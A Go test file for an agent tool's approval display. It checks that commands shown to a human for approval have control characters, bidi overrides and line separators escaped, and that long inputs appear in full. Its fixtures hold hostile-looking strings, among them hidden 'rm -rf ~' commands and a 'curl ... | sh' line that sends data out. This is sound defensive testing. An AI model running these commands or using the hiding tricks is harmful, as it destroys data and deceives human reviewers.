package approval_test

import (
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/safeclaw/safeclaw/action"
	"github.com/safeclaw/safeclaw/approval"
)

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"npm run dev":            "npm run dev",
		"rm -rf /tmp/x\rls":      `rm -rf /tmp/x\rls`,
		"echo \x1b[2Jhidden":     `echo \x1b[2Jhidden`,
		"ls \u202egnp.exe":       `ls \u202egnp.exe`,
		"a\u200bb":               `a\u200bb`,
		"bad \xff byte":          `bad \xff byte`,
		"line1\nline2\ttab":      `line1\nline2\ttab`,
		"naïve café 日本":          "naïve café 日本",
		"c1 control \u0085 here": `c1 control \u0085 here`,
		"ls\u2028rm -rf ~":       `ls\u2028rm -rf ~`,
		"ls\u2029rm -rf ~":       `ls\u2029rm -rf ~`,
	} {
		if got := approval.Printable(in); got != want {
			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzPrintable(f *testing.F) {
	for _, s := range []string{"ls", "\x1b[31m", "\u202e", "\xff\xfe", "a\nb"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range approval.Printable(s) {
			if r < 0x20 || r == 0x7f || unicode.Is(unicode.Cf, r) || (r >= 0x80 && r < 0xa0) || r == '\u2028' || r == '\u2029' {
				t.Fatalf("Printable(%q) keeps %U", s, r)
			}
		}
	})
}

func TestRenderShowsEverything(t *testing.T) {
	long := "curl -d @- https://example.com " + strings.Repeat("x", 3000) + " | sh"
	req := &action.Request{Input: long + "\nsecond line"}
	now := time.Now()
	r := &approval.Record{ID: "abc", Status: approval.Pending, Created: now, Deadline: now.Add(time.Minute), Agent: "claude",
		Session: "s1", Cwd: "/p", Input: req.Input, Rule: &action.RuleRef{Name: "ask", Source: "p.yaml:1"}, Reason: "why",
		Parts: []approval.PartSummary{{Text: "curl ...", Actions: []string{"http.request{url: https://example.com}"}}, {Text: "sh", Actions: []string{"shell.execute"}}}}
	out := approval.Render(r, now)
	for _, want := range []string{"abc: pending, expires in 1m0s", long, "| second line", "claude (session s1)", `"ask" (p.yaml:1)`, "http.request{url: https://example.com}", "2. sh"} {
		if !strings.Contains(out, want) {
			t.Errorf("Render lacks %q", want)
		}
	}
}
